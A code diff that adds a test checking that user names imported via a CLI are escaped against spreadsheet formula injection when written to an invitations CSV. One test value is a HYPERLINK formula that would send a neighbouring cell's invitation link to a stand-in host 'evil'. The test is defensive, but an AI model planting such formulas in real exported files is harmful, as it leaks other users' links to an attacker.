@@ -43,6 +43,19 @@ def test_accounts_their_invitations_and_a_sign_in(server, name, tmp_path):
     assert count(server, company) == 2
 
 
+def test_a_name_is_no_formula_beside_the_links(server, name, tmp_path):
+    """It could send the links of all others away, once the file is open in a spreadsheet."""
+    company, _ = name
+    server.company(company)
+    names = ['=HYPERLINK("http://evil/?"&C3,"open")', "+1", "-1", "@x", "Ann"]
+    rows = "".join(f'u{i}@{company}.example,"{text.replace(chr(34), 2 * chr(34))}"\n' for i, text in enumerate(names))
+    invitations = tmp_path / "invitations.csv"
+    server.cli("technician", "import", written(tmp_path, "email,name\n" + rows), "--company", company, "--invitations", invitations)
+    with open(invitations, encoding="utf-8", newline="") as lines:
+        assert [row["name"] for row in csv.DictReader(lines)] == ["'" + text for text in names[:4]] + ["Ann"]
+    assert server.cli("technician", "show", f"u0@{company}.example")["name"] == names[0]
+
+
 def test_a_dry_run_and_printed_invitations(server, name, tmp_path):
     company, email = name
     server.company(company)
